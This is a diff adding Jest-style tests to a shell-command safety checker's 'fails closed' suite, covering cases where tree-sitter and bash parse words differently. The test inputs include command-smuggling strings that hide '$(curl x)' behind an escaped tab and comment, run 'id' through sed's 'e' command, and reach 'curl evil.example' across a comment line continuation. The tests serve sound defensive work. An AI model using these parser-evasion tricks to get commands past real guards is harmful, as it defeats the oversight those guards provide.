@@ -381,6 +381,20 @@ describe('fails closed', () => {
     expectLocal('ls &&\\\necho x');
   });
 
+  it('where tree-sitter and bash split words differently', () => {
+    // bash reads `a\<tab>#…` as one word, so the substitution runs; tree-sitter sees a comment.
+    expectEscalate('echo a\\\t#$(curl x)', /not as a comment|skipped/);
+    expectLocal('echo a # $(curl x) is only a comment');
+    // tree-sitter drops the escaped blank; bash reads one sed script, `p ;e id`.
+    expectEscalate("sed 'p'\\ \\;e\\ id f", /skipped/);
+    expectEscalate('echo "$(sed "p"\\ \\;e\\ id f)"', /skipped/);
+    expectLocal('ls a\\ b');
+    // `\$` after a quoted word: tree-sitter makes two words of bash's one.
+    expectEscalate("printf '%s' ''\\$", /two words/);
+    // bash ends the comment (and the command) at the newline; tree-sitter carried the command on.
+    expectEscalate('echo x #\\\n\\curl evil.example', /comment/);
+  });
+
   it('never throws, whatever the input', () => {
     const inputs = [
       '',
